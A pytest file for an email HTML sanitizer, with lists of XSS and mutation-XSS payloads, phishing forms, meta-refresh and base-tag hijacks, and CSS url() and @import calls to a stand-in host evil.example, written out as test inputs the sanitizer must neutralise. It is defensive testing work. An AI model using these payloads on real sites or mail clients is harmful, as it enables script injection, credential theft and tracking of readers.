"""Nothing in a mail runs, loads, submits or leaves its frame."""

from __future__ import annotations

import re

import pytest
from selectolax.lexbor import LexborHTMLParser

from app.mail.safe_html import Tangled, clean

#: All tags that may be left in a mail.
_TAGS = """
a abbr acronym b bdi bdo big blockquote br caption center cite code col colgroup data dd del details dfn div dl dt em
figcaption figure font h1 h2 h3 h4 h5 h6 hgroup hr i img ins kbd li main map mark ol p pre q rp rt rtc ruby s samp small
span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr area
"""
_ATTRIBUTES = """
align alt bgcolor border cellpadding cellspacing class color colspan data-part data-remote dir face height href lang
nowrap rel rowspan size src start style target title type valign width
"""
TAGS, ATTRIBUTES = set(_TAGS.split()), set(_ATTRIBUTES.split())

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" \tjava\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; * { position: fixed }</style>",
    "<video src='https://evil.example/x' autoplay></video>",
    "<details ontoggle=alert(1) open>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>cover</div>",
    "<div style='background:u\\72l(https://evil.example/x)'>x</div>",
    "<table background='https://evil.example/x'><tr><td>x</table>",
    "<img srcset='https://evil.example/x 2x'>",
    "<img src='/sign-out'><img src='//evil.example/x'><img src='http://evil.example/x'>",
    "<a href='/sign-out' ping='https://evil.example'>x</a>",
    "<x-y contenteditable autofocus onfocus=alert(1)>",
]


#: The same inside what is prepared before cleaning: style sheets, <body>, <base>, hidden parts.
HOSTILE_DESIGNS = [
    "<style>p{color:red;content:'</style><script>alert(1)</script>'}</style><p>x",
    "<style>p{font-family:'\"><img src=x onerror=alert(1)>'}</style><p>x",
    '<style>p{font-family:x" onmouseover=alert(1) y="}</style><p>x',
    "<style>p{background:url(https://evil.example/x) #fff}</style><p>x",
    "<style>p{background-image:image-set('https://evil.example/x' 1x)}</style><p>x",
    "<style>p{background:u\\72l(https://evil.example/x)}</style><p>x",
    "<style>p{position:fixed;top:0;z-index:9}</style><p>x",
    "<style>p{width:expression(alert(1));behavior:url(#x);-moz-binding:url(https://evil.example/x)}</style><p>x",
    "<style>p[title='a'],p[title=\"</p><script>alert(1)</script>\"]{color:red}</style><p title=a>x",
    "<svg><style><img src=x onerror=alert(1)></style></svg><style>p{color:red}</style><p>x",
    "<body onload=alert(1) style='background:url(https://evil.example/x);position:fixed' background=//evil.example/x>x",
    "<body bgcolor='\"><script>alert(1)</script>' text='red\" onclick=\"alert(1)'>x",
    "<body dir='\"><script>alert(1)</script>' class='\"><script>'>x",
    "<base href='javascript:alert(1)//'><a href='x'>x</a><img src='y'>",
    "<div style='display:none'><script>alert(1)</script><form></div><i hidden><iframe src=//evil.example></iframe>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></a></title><style>p{color:red}</style><p>x",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><p style='display:none'>x</p>y",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'><p hidden>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style><p style='opacity:0'>x",
    "<a style='color:red;\nbackground:url(\"https://e.example/x\")' href='https:evil'>x</a><style>a{color:red}</style>",
    "<font color='white\" onclick=\"alert(1)'>x</font><p style='color:#fff;font-family:\"&quot;onclick=alert(1)'>x",
    "<p style='color:#fff' id='\"><script>alert(1)</script>'>x</p><template><script>alert(1)</script></template>",
]


@pytest.mark.parametrize("html", [*HOSTILE, *HOSTILE_DESIGNS])
def test_hostile_html_is_harmless(html: str) -> None:
    safe = clean(html, {})
    for reading in (safe, clean(safe, {})):  # cleaning twice gives the same result
        for node in LexborHTMLParser(f"<body>{reading}").css("body *"):
            assert node.tag in TAGS, reading
            assert set(node.attributes) <= ATTRIBUTES, reading
            assert re.fullmatch(r"(https?://|mailto:|tel:).*|", node.attributes.get("href") or ""), reading
            style = node.attributes.get("style") or ""
            assert not re.search(r"(?i)position|url|image-set|expression|binding|behavior|content:|[\\@]", style), (
                reading
            )
            assert (node.attributes.get("src") or "data:image/").startswith("data:image/"), reading
            assert (node.attributes.get("data-remote") or "https://").startswith("https://"), reading


def test_a_deep_nest_stops_nothing() -> None:
    assert "x" in clean("<style>div div { color: red }</style>" + "<div>" * 150 + "x", {})
    with pytest.raises(Tangled):
        clean("<style>div div { color: red }</style>" + "<div>" * 5000 + "x", {})


def test_pictures_on_other_servers_have_no_src_but_keep_their_address() -> None:
    html = '<img alt="logo" src=" HTTPS://shop.example/logo.png?a=1&amp;b=2">'
    assert clean(html, {}) == '<img alt="logo" data-remote="https://shop.example/logo.png?a=1&amp;b=2">'


def test_inline_pictures_name_their_part() -> None:
    assert clean('<img src="cid:pic@x"><img src="cid:other@x">', {"pic@x": "2.1"}) == '<img data-part="2.1"><img>'


@pytest.mark.parametrize(
    "html",
    [
        "<img data-part=2>",
        "<img src=part:2>",
        "<img src='remote:https://evil.example/'>",
        "<p data-remote='https://x/'>",
    ],
)
def test_a_mail_cannot_write_a_placeholder_itself(html: str) -> None:
    assert "data-" not in clean(html, {})
    assert "src" not in clean(html, {})


def test_words_that_look_like_a_placeholder_stay_words() -> None:
    words = '<p>&lt;img src="part:2"&gt; src="remote:https://x/"</p>'
    assert clean(words, {}) == words


def test_links_open_elsewhere_and_tell_nobody_where_from() -> None:
    safe = clean('<a href="https://shop.example/">x</a>', {})
    assert 'rel="noopener noreferrer"' in safe
    assert 'target="_blank"' in safe


def test_ordinary_looks_are_kept() -> None:
    html = '<table width="600" bgcolor="#eee"><tr><td style="color:red;padding:4px"><b>Sale</b></td></tr></table>'
    safe = clean(html, {})
    assert 'bgcolor="#eee"' in safe
    assert "color:red" in safe


@pytest.mark.parametrize(
    "html",
    ["<div style='height:99999999px;color:#123456'>x</div>", "<p style='margin-top: 50000px;color:#123456'>x</p>",
     "<table height=99999999 style='color:#123456'><tr><td>x</td></tr></table>"],
)  # fmt: skip
def test_a_mail_does_not_make_itself_so_high_that_nobody_reaches_the_next(html: str) -> None:
    safe = clean(html, {})
    assert "99999999" not in safe
    assert "50000" not in safe
    assert "#123456" in safe
